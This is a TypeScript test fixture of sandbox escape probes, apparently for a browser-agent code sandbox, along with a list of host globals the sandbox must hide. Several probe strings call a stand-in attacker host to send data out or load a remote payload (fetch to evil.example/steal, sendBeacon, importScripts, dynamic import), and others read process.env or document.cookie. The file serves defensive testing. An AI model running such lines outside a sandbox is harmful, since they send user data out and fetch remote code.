/**
 * Escape attempts shared by the Node and Chromium sandbox tests. Each names the exact outcome:
 * a probe that escapes, or fails for another reason, fails the test.
 */
import type { JsonValue, SandboxFailureKind } from '../../src/tools/sandbox/types';

export interface EscapeProbe {
  name: string;
  code: string;
  expect: { ok: false; kind: SandboxFailureKind; name?: string; message: string } | { ok: true; value: JsonValue };
}

function notDefined(name: string, code: string = `${name}`): EscapeProbe {
  return { name, code, expect: { ok: false, kind: 'thrown', name: 'ReferenceError', message: `'${name}' is not defined` } };
}

export const ESCAPE_PROBES: readonly EscapeProbe[] = [
  notDefined('fetch', 'fetch("https://evil.example/steal?data=1")'),
  notDefined('XMLHttpRequest', 'new XMLHttpRequest()'),
  notDefined('WebSocket', 'new WebSocket("wss://evil.example")'),
  notDefined('EventSource', 'new EventSource("https://evil.example")'),
  notDefined('navigator', 'navigator.sendBeacon("https://evil.example", "x")'),
  notDefined('require', 'require("fs")'),
  notDefined('process', 'process.env'),
  notDefined('importScripts', 'importScripts("https://evil.example/x.js")'),
  notDefined('indexedDB', 'indexedDB.open("tabagent")'),
  notDefined('localStorage', 'localStorage.getItem("settings")'),
  notDefined('sessionStorage', 'sessionStorage.getItem("x")'),
  notDefined('caches', 'caches.keys()'),
  notDefined('document', 'document.cookie'),
  notDefined('window', 'window.location.href'),
  notDefined('parent', 'parent.postMessage("x", "*")'),
  notDefined('self', 'self.postMessage("x")'),
  notDefined('top', 'top.document'),
  notDefined('location', 'location.href'),
  notDefined('postMessage', 'postMessage({ steal: true })'),
  notDefined('setTimeout', 'setTimeout(() => 1, 0)'),
  notDefined('Worker', 'new Worker("x.js")'),
  notDefined('WebAssembly', 'WebAssembly.compile(new Uint8Array(8))'),
  {
    name: 'dynamic import()',
    code: 'import("https://evil.example/payload.js")',
    expect: { ok: false, kind: 'thrown', name: 'ReferenceError', message: "could not load module 'https://evil.example/payload.js'" },
  },
  {
    name: 'static import',
    code: 'import fs from "fs"; fs',
    expect: { ok: false, kind: 'syntax', name: 'SyntaxError', message: "expecting '('" },
  },
  {
    name: 'globalThis.fetch',
    code: 'typeof globalThis.fetch + "," + typeof globalThis.document + "," + typeof globalThis.indexedDB',
    expect: { ok: true, value: 'undefined,undefined,undefined' },
  },
  {
    name: "Function('return this')() (the global it finds is the sandbox's own)",
    code: 'const g = Function("return this")(); [g === globalThis, typeof g.fetch, typeof g.postMessage, typeof g.process]',
    expect: { ok: true, value: [true, 'undefined', 'undefined', 'undefined'] },
  },
  {
    name: 'the Function constructor reached through a prototype',
    code: '(function () {}).constructor("return process")()',
    expect: { ok: false, kind: 'thrown', name: 'ReferenceError', message: "'process' is not defined" },
  },
  {
    name: 'console as a way out (it only prints)',
    code: 'Object.getOwnPropertyNames(console).sort().join(",") + "|" + typeof console.log.call',
    expect: { ok: true, value: 'debug,error,info,log,warn|function' },
  },
  {
    name: 'eval of a network call',
    code: 'eval("fetch(\'https://evil.example\')")',
    expect: { ok: false, kind: 'thrown', name: 'ReferenceError', message: "'fetch' is not defined" },
  },
];

/** Names that exist in browsers, workers or Node and must not exist inside the sandbox. */
export const HOST_ONLY_GLOBALS = [
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'indexedDB',
  'localStorage',
  'sessionStorage',
  'document',
  'window',
  'self',
  'parent',
  'top',
  'navigator',
  'location',
  'postMessage',
  'setTimeout',
  'setInterval',
  'queueMicrotask',
  'require',
  'process',
  'importScripts',
  'WebAssembly',
  'caches',
] as const;
